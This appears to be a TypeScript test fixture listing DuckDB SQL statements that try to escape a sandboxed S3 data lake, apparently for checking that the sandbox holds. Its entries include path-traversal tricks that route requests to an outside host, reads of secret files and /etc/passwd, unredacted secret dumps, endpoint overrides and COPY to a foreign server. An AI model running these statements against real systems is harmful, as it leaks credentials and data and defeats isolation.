/** Where attempts would lead. */
export interface Targets {
  /** `s3://bucket/prefix` of the lake. */
  readonly url: string;
  /** `host:port` of a server that is not the lake's, and of the lake's own. */
  readonly stranger: string;
  readonly own: string;
}

/**
 * Statements that would leave a lake on S3. DuckDB takes `a/../../s3:/bucket/prefix/x` for a path of the lake when it
 * checks it, and httpfs opens `a`.
 */
export function leavingAttempts({ url, stranger, own }: Targets): string[] {
  const lake = url.replace('s3://', 's3:/');
  const [bucket = ''] = url.replace('s3://', '').split('/');
  const http = `http://${stranger}/../../${lake}/x`;
  const elsewhere = `s3://another-bucket/../${url.replace('s3://', '')}/x`;
  const parameters = `s3_endpoint=${stranger}&s3_use_ssl=false&s3_url_style=path`;
  return [
    `FROM read_parquet('${http}.parquet')`,
    `FROM read_text('${http}')`,
    `FROM read_csv('${http}.csv')`,
    `FROM '${http}.parquet'`,
    `FROM "${http}".parquet`,
    `FROM "http://${stranger}/."."./../${lake}/x"."parquet"`,
    `DESCRIBE '${http}.parquet'`,
    `SUMMARIZE '${http}.parquet'`,
    `FROM query_table('"${http}.parquet"')`,
    `FROM query_table(['checks', '"${http}.parquet"'])`,
    `FROM query_table('"${http.slice(0, 9)}' || '${http.slice(9)}.parquet"')`,
    `FROM histogram("${http}.parquet", a)`,
    `FROM histogram('"${http}.parquet"', a)`,
    `FROM histogram_values(source := '"${http}.parquet"', col_name := a)`,
    `FROM pragma_table_info('"${http}.parquet"')`,
    `FROM pragma_show('"${http}.parquet"')`,
    `FROM read_text('http://${own}/${bucket}/../../${lake}/x')`,
    `FROM read_text('https://${stranger}/../../${lake}/x')`,
    `FROM read_parquet('hf://datasets/x/../../../${lake}/x.parquet')`,
    `FROM read_text('${url}/x?${parameters}')`,
    `FROM '${url}/x.parquet?${parameters}'`,
    `FROM read_text('${elsewhere}?${parameters}')`,
    `FROM read_text('${elsewhere}')`,
    `FROM '${elsewhere}.parquet'`,
    `FROM "s3://another-bucket/."."./${url.replace('s3://', '')}/x"."parquet"`,
    `FROM read_parquet('s3://another-bucket/x.parquet')`,
    `FROM read_parquet('s3a://${bucket}/x.parquet')`,
    `FROM read_text('gcs://another-bucket/../../${lake}/x')`,
    `FROM read_text('r2://another-bucket/../../${lake}/x')`,
    `FROM read_text('s3://${bucket}/secret.txt')`,
    `FROM read_text('${url}-beside/secret.txt')`,
    `FROM read_text('${url}/../secret.txt')`,
    `FROM read_text('${url}/local/../../secret.txt')`,
    `FROM read_text('${url}/./../secret.txt')`,
    `FROM read_text('${url}/*')`,
    `FROM glob('${url}/**')`,
    `FROM glob('s3://${bucket}/*')`,
    `FROM read_text(['${url}/local/_hx/manifest.json', 's3://${bucket}/secret.txt'])`,
    `SELECT (SELECT content FROM read_text('s3://${bucket}/secret.txt'))`,
    "FROM read_text('/etc/passwd')",
    `FROM read_text('${lake.slice(0, 3)}/../../etc/passwd')`,
    'FROM duckdb_secrets()',
    'FROM duckdb_secrets(redact = false)',
    `FROM which_secret('${url}/x', 's3')`,
    'FROM inherit_aws_config_from_environment()',
    'FROM duckdb_logs()',
    'FROM duckdb_extensions()',
    "CREATE SECRET other (TYPE s3, KEY_ID 'x', SECRET 'y')",
    "CREATE OR REPLACE SECRET hx (TYPE s3, KEY_ID 'x', SECRET 'y', ENDPOINT 'x')",
    'DROP SECRET hx',
    `SET s3_endpoint = '${stranger}'`,
    'SET s3_url_compatibility_mode = false',
    "SET disabled_filesystems = ''",
    'RESET disabled_filesystems',
    `COPY (SELECT 1) TO '${url}/written.parquet'`,
    `COPY checks TO 'http://${stranger}/../../${lake}/x.csv'`,
    `ATTACH '${url}/x.duckdb' AS other (READ_ONLY)`,
    `EXPLAIN ANALYZE COPY (SELECT 1) TO '${url}/written.csv'`,
  ];
}
